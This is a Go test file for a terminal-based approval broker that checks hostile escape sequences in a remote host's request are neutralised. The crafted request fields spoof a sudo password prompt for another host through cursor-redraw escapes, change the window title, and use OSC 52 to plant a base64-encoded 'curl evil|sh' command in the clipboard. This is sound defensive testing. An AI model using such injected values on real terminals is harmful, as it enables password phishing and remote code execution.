package remote

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"ollie/broker"
	"ollie/broker/desktop"
	"ollie/internal/await"
	"ollie/internal/termsafe"
)

// TestTerminalBrokerHostile replays issue 11's phishing: a host's request
// whose fields carry cursor moves and line erases that redraw the screen
// as another host's sudo request, OSC 0 (the title), OSC 52 (the
// clipboard), an 8-bit CSI and newlines. On the pty of "ollie-remote
// broker" none of the host's escapes arrives, the prompt's first line
// names the host of the connection (not the one the request claims), and
// the password line repeats it.
func TestTerminalBrokerHostile(t *testing.T) {
	if buildFailed != nil {
		t.Fatal(buildFailed)
	}
	dir, err := os.MkdirTemp("", "orb")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	t.Setenv("OLLIE_REMOTE_DIR", dir)
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())

	tty, scr := startTerminalBroker(t)
	banner := len(scr.String())

	l, err := net.Listen("unix", filepath.Join(dir, "fwd"))
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	fallback := &desktop.Broker{Approver: desktop.NewHandoff(desktop.Nobody{Reason: "no terminal broker"}, log), Log: log}
	go desktop.ServeApprovals(fallback, "h4", l, nil)

	c, err := net.Dial("unix", filepath.Join(dir, "fwd"))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	const redraw = "\x1b[3A\x1b[2K\rollie: h5 asks to run as root (sudo)\n\x1b[2K\x1b[1G"
	req := &broker.Request{
		Host:       "h5\x1b[2J", // claimed; the connection says h4
		Session:    "s\x1b]0;h5: all good\a",
		Agent:      "ops\u009b2J", // JSON carries only UTF-8: the lone byte 0x9b arrives as U+FFFD
		AgentName:  "fixer" + redraw + "sudo password for h5: ",
		Tool:       "fix_nginx",
		Executable: "/usr/sbin/nginx\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",
		Args:       json.RawMessage(`{"x":"\u009b2J\u001b[1A"}`),
		Cwd:        "/\n\nollie: h5 asks\x1bP+q544e\x1b\\",
		Sudo:       true,
	}
	type asked struct {
		cv  *broker.Conversation
		ans broker.Answer
		err error
	}
	done := make(chan asked, 1)
	// A tool named with a sentence is refused for its name, the reason
	// sent back, and nothing shown.
	bad := *req
	bad.Tool = "fix_nginx" + redraw + "sudo password for h5: "
	if _, ans, err := broker.Ask(ctx, c, &bad); err != nil || ans.Decision != broker.Deny || !strings.Contains(ans.Reason, "is not a tool's name") {
		t.Errorf("a tool named with a sentence: %+v, %v; want denied for its name", ans, err)
	}
	if c, err = net.Dial("unix", filepath.Join(dir, "fwd")); err != nil {
		t.Fatal(err)
	}
	go func() {
		cv, ans, err := broker.Ask(ctx, c, req)
		done <- asked{cv, ans, err}
	}()
	scr.waitFor(t, "[d]eny? ")
	tty.Write([]byte("o\r"))
	a := <-done
	if a.err != nil || a.ans.Decision != broker.Once {
		t.Fatalf("answer %+v %v", a.ans, a.err)
	}
	for attempt, problem := range []string{"", "wrong password\x1b[2K\r\x1b]0;h5\a\u009b1A"} {
		pwc := make(chan []byte, 1)
		go func() {
			pw, err := a.cv.Password(ctx, attempt+1, problem)
			if err != nil {
				t.Error(err)
			}
			pwc <- pw
		}()
		scr.waitFor(t, "(asked by h4): ")
		await.Until(t, 30*time.Second, fmt.Sprintf("password prompt %d never shown", attempt+1), func() bool {
			return strings.Count(scr.String(), "(asked by h4): ") >= attempt+1
		}, scr.String)
		tty.Write([]byte("Hunter2-secret\r"))
		if pw := <-pwc; string(pw) != "Hunter2-secret" {
			t.Errorf("password %q", pw)
		}
	}
	a.cv.Close("ran")
	// Whatever the request put on the screen is there before the prompt
	// of one asked after it, as is any echo of the password.
	c2, err := net.Dial("unix", filepath.Join(dir, "fwd"))
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		_, ans, err := broker.Ask(ctx, c2, &broker.Request{Session: "s", Tool: "after_password", Executable: "/x", Cwd: "/"})
		done <- asked{nil, ans, err}
	}()
	scr.waitFor(t, "(after_password on h4) / [d]eny? ")
	defer func() {
		tty.Write([]byte("d\r"))
		if a := <-done; a.err != nil || a.ans.Decision != broker.Deny {
			t.Errorf("the request after the password: %+v %v", a.ans, a.err)
		}
	}()

	checkHostileScreen(t, scr.String()[banner:])
}

// checkHostileScreen checks what the terminal broker showed of the
// hostile request: no escape of the host's, the connection's host named
// first on the prompt and on both password lines, no line of the host's
// own, no echo of the password.
func checkHostileScreen(t *testing.T, screen string) {
	t.Helper()
	if p := escapeOnScreen(screen); p != "" {
		t.Errorf("the host reached the terminal: %s\n%q", p, screen)
	}
	lines := strings.Split(strings.ReplaceAll(screen, "\r\n", "\n"), "\n")
	var first string
	for _, l := range lines {
		if strings.HasPrefix(l, "ollie: ") {
			first = l
			break
		}
	}
	if first != "ollie: h4 asks to run as root (sudo)" {
		t.Errorf("the prompt's first line is %q, want the connection's host:\n%s", first, screen)
	}
	pwLines := 0
	for _, l := range lines {
		if strings.HasPrefix(l, "ollie: sudo password for root on h4, to run fix_nginx") && strings.HasSuffix(l, " (asked by h4): ") {
			pwLines++
		}
		if strings.HasPrefix(l, "ollie: h5") || strings.HasPrefix(l, "sudo password for h5") {
			t.Errorf("the host made a line of its own: %q", l)
		}
		// The host's words are quoted: outside the quotes, no host is
		// named but the connection's.
		if strings.Contains(termsafe.Unquoted(l), "h5") {
			t.Errorf("a line names h5 outside its quotes: %q", l)
		}
	}
	if pwLines != 2 {
		t.Errorf("%d password lines name h4 first and last, want 2:\n%s", pwLines, screen)
	}
	if strings.Contains(screen, "Hunter2") {
		t.Errorf("the terminal echoed the password:\n%s", screen)
	}
}

// escapeOnScreen says what control a terminal would act on, other than
// the line ends the terminal itself makes ("\r\n"), or "".
func escapeOnScreen(s string) string {
	s = strings.ReplaceAll(s, "\r\n", "\n")
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == 0x1b:
			return fmt.Sprintf("ESC at byte %d", i)
		case c == 0x9b:
			return fmt.Sprintf("an 8-bit CSI byte at %d", i)
		case c == 0x07:
			return fmt.Sprintf("BEL at byte %d", i)
		case c < 0x20 && c != '\n', c == 0x7f:
			return fmt.Sprintf("control %#x at byte %d", c, i)
		}
	}
	if !utf8.ValidString(s) {
		return "bytes that are not UTF-8"
	}
	for i, r := range s {
		if r >= 0x80 && r <= 0x9f {
			return fmt.Sprintf("%U at byte %d", r, i)
		}
	}
	return ""
}
